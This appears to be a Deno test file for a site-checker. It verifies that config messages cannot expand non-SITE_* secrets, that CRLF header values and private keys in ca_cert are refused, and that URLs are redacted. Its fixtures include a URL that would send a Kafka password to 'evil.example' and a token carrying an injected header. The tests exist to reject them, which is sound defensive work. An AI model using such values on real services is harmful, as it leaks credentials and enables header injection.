import assert from "node:assert/strict";
import { configErrorResult } from "../../src/check/check_site.ts";
import { parseSites } from "../../src/sites/file.ts";
import { checkerSites, isMisconfigured } from "../../src/sites/checker_sites.ts";

const encode = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));
const quiet = { warn: () => {}, error: () => {} };

Deno.test("a checker of the sites topic resolves SITE_* variables only: a message cannot read its other settings", () => {
  const env = { SITE_TOKEN: "t0k", KAFKA_SASL_PASSWORD: "hunter2-secret" };
  const sitesOf = checkerSites({ env, log: quiet });
  const [stolen, fine] = sitesOf(
    new Map([
      [
        "a",
        encode({
          version: 1,
          site: { id: "a", url: "https://evil.example/${KAFKA_SASL_PASSWORD}" },
        }),
      ],
      ["b", encode({ version: 1, site: { id: "b", url: "https://b.example/?t=${SITE_TOKEN}" } })],
    ]),
  );
  assert.ok(stolen !== undefined && isMisconfigured(stolen));
  assert.deepEqual(stolen.problems, [
    "url: refers to ${KAFKA_SASL_PASSWORD}: checkers of the sites topic resolve only SITE_* variables",
  ]);
  assert.ok(fine !== undefined && !isMisconfigured(fine));
  assert.equal(fine.url, "https://b.example/?t=t0k");
  assert.equal(fine.urlAsWritten, "https://b.example/?t=${SITE_TOKEN}");
});

Deno.test("a checker works on each message once, and leaves out a message that is no site", () => {
  const warnings: string[] = [];
  const sitesOf = checkerSites({
    env: {},
    log: { warn: (m) => warnings.push(m), error: () => {} },
  });
  const a = encode({ version: 1, site: { id: "a", url: "https://a.example/" } });
  const rows = new Map([["a", a], ["junk", new Uint8Array([0xff])]]);
  const first = sitesOf(rows);
  assert.deepEqual(first.map((site) => site.id), ["a"]);
  assert.equal(sitesOf(rows)[0], first[0], "the same message makes the same site");
  assert.equal(warnings.length, 1);
});

Deno.test("a checker refuses a header with a line break from a reference: a config result naming the reference", () => {
  const logged: string[] = [];
  const log = { warn: () => {}, error: (...args: unknown[]) => logged.push(JSON.stringify(args)) };
  const sitesOf = checkerSites({ env: { SITE_TOKEN: "abc\r\nX-Evil: 1" }, log });
  const site = {
    id: "a",
    url: "https://a.example/",
    headers: { Authorization: "Bearer ${SITE_TOKEN}" },
  };
  const [made] = sitesOf(new Map([["a", encode({ version: 1, site })]]));
  assert.ok(made !== undefined && isMisconfigured(made));
  const result = configErrorResult(made);
  assert.equal(result.error?.kind, "config");
  assert.equal(
    result.error?.message,
    'This checker cannot check the site as configured: headers.Authorization: must not contain control characters: current value is "Bearer ${SITE_TOKEN}"',
  );
  assert.ok(!logged.join("").includes("X-Evil"), logged.join(""));
});

Deno.test("a URL that is a reference whole is recorded as its origin alone: its path, query or user may hold a secret", () => {
  const [site] = parseSites("sites:\n  - id: a\n    url: ${SITE_URL}\n", "sites.yaml", {
    SITE_URL: "https://user:pw@h.example:8443/health?token=secret#x",
  });
  assert.equal(site?.urlAsWritten, "https://h.example:8443/…");
});

const testdata = (name: string) => new URL(`../testdata/${name}`, import.meta.url).pathname;
const CA = Deno.readTextFileSync(testdata("tls/ca.pem"));
const KEY = Deno.readTextFileSync(testdata("tls/localhost.key"));

Deno.test("a checker refuses a site whose ca_cert holds a private key: a config error, the key unused", () => {
  const logged: string[] = [];
  const sitesOf = checkerSites({
    env: {},
    log: { warn: () => {}, error: (...args) => logged.push(JSON.stringify(args)) },
  });
  const site = { id: "a", url: "https://a.example/", ca_cert: `${CA}${KEY}` };
  const [refused] = sitesOf(new Map([["a", encode({ version: 1, site })]]));
  assert.ok(refused !== undefined && isMisconfigured(refused));
  assert.deepEqual(refused.problems, [
    "ca_cert: holds a private key: a CA file must hold certificates only (what it holds goes to every checker); name the CA certificate, not a key and certificate bundle",
  ]);
  const result = configErrorResult(refused);
  assert.equal(result.error?.kind, "config");
  const keyLine = KEY.split("\n")[1]!;
  assert.ok(!JSON.stringify([result, refused, logged]).includes(keyLine));
  assert.equal(logged.length, 1);
});

Deno.test("a checker verifies a site with the certificates of its ca_cert, and nothing else of it", () => {
  const sitesOf = checkerSites({ env: {}, log: quiet });
  const site = {
    id: "a",
    url: "https://a.example/",
    ca_cert: `issuer: the test CA\n${CA}trailer\n`,
  };
  const [checked] = sitesOf(new Map([["a", encode({ version: 1, site })]]));
  assert.ok(checked !== undefined && !isMisconfigured(checked));
  assert.equal(checked.caCert, CA);
});
